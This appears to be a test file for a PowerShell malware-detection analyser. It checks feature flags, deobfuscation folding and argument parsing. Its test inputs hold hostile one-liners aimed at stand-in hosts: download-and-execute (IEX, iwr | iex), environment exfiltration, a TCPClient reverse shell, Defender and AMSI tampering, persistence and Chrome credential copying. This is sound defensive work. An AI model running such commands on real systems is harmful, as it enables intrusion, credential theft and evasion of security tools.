import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { readPowershellArguments } from '../../../../src/analyses/command/powershell-arguments.ts';
import { foldPowershell } from '../../../../src/analyses/command/powershell-fold.ts';
import { tokenizePowershell } from '../../../../src/analyses/command/powershell-tokens.ts';
import { check } from './expect.ts';

describe('features', () => {
  const fetched = 'download download-execute pipe-to-shell';
  check('powershell', "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/x')", {
    features: fetched,
    urls: ['http://a.invalid/x'],
  });
  check('powershell', 'iwr -useb http://a.invalid/x | iex', { features: fetched });
  check('powershell', '$c = irm http://a.invalid/x; Invoke-Expression $c', { features: fetched });
  check(
    'powershell',
    '$u=\'http://a.invalid/x\';(New-Object Net.WebClient).DownloadFile($u,"$env:TEMP\\x.exe");Start-Process "$env:TEMP\\x.exe"',
    {
      features: 'download download-execute',
    },
  );
  check(
    'powershell',
    'Invoke-WebRequest -Uri http://a.invalid/u.zip -OutFile $env:tmp/u.zip; Expand-Archive $env:tmp/u.zip -DestinationPath $env:tmp; Start-Process -WindowStyle Hidden $env:tmp/p.exe',
    {
      features: 'download download-execute hidden-window',
    },
  );
  check('powershell', 'Start-BitsTransfer -Source http://a.invalid/a -Destination a.bin', {
    features: 'download',
  });
  check(
    'powershell',
    'Invoke-RestMethod -Uri http://a.invalid -Method Post -Body (Get-ChildItem env: | Out-String)',
    { features: 'environment-dump send-data' },
  );
  check('powershell', "$w.UploadString('http://a.invalid', $d)", { features: 'send-data' });
  check(
    'powershell',
    "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',4);$s=$c.GetStream();while($true){iex $d}",
    { features: 'reverse-shell' },
  );
  check(
    'powershell',
    'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\',
    { features: 'defender-tamper' },
  );
  check('powershell', 'Get-MpPreference', { features: '' });
  check('powershell', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", {
    features: 'defender-tamper',
  });
  check('powershell', "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' X a.exe", {
    features: 'persistence',
  });
  check('powershell', 'Register-ScheduledTask -TaskName X -Action $a', { features: 'persistence' });
  check('powershell', 'Set-ExecutionPolicy Bypass -Scope Process', { features: 'policy-bypass' });
  check('powershell', '[Reflection.Assembly]::Load($bytes)', { features: 'in-memory' });
  check('powershell', 'Remove-Item $PSCommandPath', { features: 'file-delete self-delete' });
  check('powershell', 'Start-Process cmd -Verb RunAs', { features: 'privilege', programs: 'cmd' });
  check(
    'powershell',
    "Copy-Item 'C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data' x",
    { features: 'credential-access' },
  );
  check('powershell', "Write-Host 'Invoke-WebRequest http://a.invalid | iex'", { features: '' });
  check('powershell', '# IEX (iwr http://a.invalid)\n<# Add-MpPreference -ExclusionPath x #>\nGet-Date', {
    features: '',
  });
  check('powershell', '& $env:ComSpec /c dir; & "C:\\Program Files\\x\\y.exe" --version', { features: '' });
});

describe('programs inside', () => {
  const text = 'Write-Host hello; Get-ComputerInfo';
  const wide = Buffer.from(text, 'utf16le').toString('base64');
  check(
    'powershell',
    `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${wide}')))`,
    {
      features: 'decode encoded-command host-identity in-memory',
      inner: [['powershell < FromBase64String < utf-16le', text]],
    },
    'base64 of UTF-16',
  );
  const gzip = gzipSync(Buffer.from(text)).toString('base64');
  check(
    'powershell',
    `iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String("${gzip}"))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`,
    {
      features: 'decode encoded-command host-identity in-memory',
      inner: [['powershell < FromBase64String < gzip', text]],
    },
    'gzip stream',
  );
  const raw = deflateRawSync(Buffer.from(text)).toString('base64');
  check(
    'powershell',
    `iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${raw}'),0)))).ReadToEnd()`,
    {
      features: 'decode encoded-command host-identity in-memory',
      inner: [['powershell < FromBase64String < deflate', text]],
    },
    'deflate stream',
  );
  check('powershell', "&('{1}{0}' -f 'X','IE') ('Get-Comp'+'uterInfo')", {
    features: 'host-identity',
    inner: [['powershell < Invoke-Expression', 'Get-ComputerInfo']],
  });
  check('powershell', 'cmd /c "whoami"', {
    features: 'host-identity',
    inner: [['batch < cmd /c', 'whoami']],
  });
});

test('folding computes what obfuscators write', () => {
  const CASES: [string, string][] = [
    ["'a'+\"b\" + 'c'", "'abc'"],
    ['[char]72+[char]0x69', "'Hi'"],
    ["('{2}{0}{1}' -f 'b','c','a')", "'abc'"],
    ["'aXbX' -replace 'X',''", "'ab'"],
    ["'a.b'.Replace('.','-')", "'a-b'"],
    ["('i','e','x') -join ''", "'iex'"],
    ['-join ([char[]](105,101,120))', "'iex'"],
    ["(105,101,120,32|%{[char]$_}) -join ''", "'iex '"],
    ["(74,70,91,3|%{[char]($_ -bxor 35)}) -join ''", "'iex '"],
    ["[string]::Join('', ('a','b'))", "'ab'"],
    ["('69 65 78 20' -split ' '|%{[char][convert]::toint16($_,16)}) -join ''", "'iex '"],
    ["'xei'[-1..-3] -join ''", "'iex'"],
    ['i`e`x', 'iex'],
    ["$a='x';$a+'y'", "$a = 'x' ; 'xy'"],
    ['$a = $b + 1', '$a = $b + 1'],
    ["f('x')", "f ( 'x' )"],
  ];
  for (const [text, expected] of CASES) {
    const { tokens } = foldPowershell(tokenizePowershell(text).tokens);
    const shown = tokens.map((token) => (token.kind === 'string' ? `'${token.text}'` : token.text)).join(' ');
    assert.equal(shown, expected, text);
  }
});

test('parameters of powershell.exe may be cut', () => {
  const CASES: [string[], object][] = [
    [['-e', 'QQ=='], { encoded: 'QQ==' }],
    [['-eNcOdEd', 'QQ=='], { encoded: 'QQ==' }],
    [['/enc', 'QQ=='], { encoded: 'QQ==' }],
    [['\u2013ec', 'QQ=='], { encoded: 'QQ==' }],
    [['-nop', '-w', 'hidden', '-c', 'a', 'b'], { features: ['hidden-window'], command: 'a b' }],
    [['-WindowStyle', 'Normal', 'Get-Date'], { command: 'Get-Date' }],
    [['-ep', 'Bypass', '-f', 'a.ps1', 'x'], { features: ['policy-bypass'], file: 'a.ps1' }],
    [['-ExecutionPolicy', 'RemoteSigned', '-File', 'a.ps1'], { file: 'a.ps1' }],
    [['-NoExit', '-Command', '-'], {}],
    [[], {}],
  ];
  for (const [args, expected] of CASES) {
    const whole = { features: [], encoded: null, command: null, file: null, ...expected };
    assert.deepEqual(readPowershellArguments(args), whole, args.join(' '));
  }
});
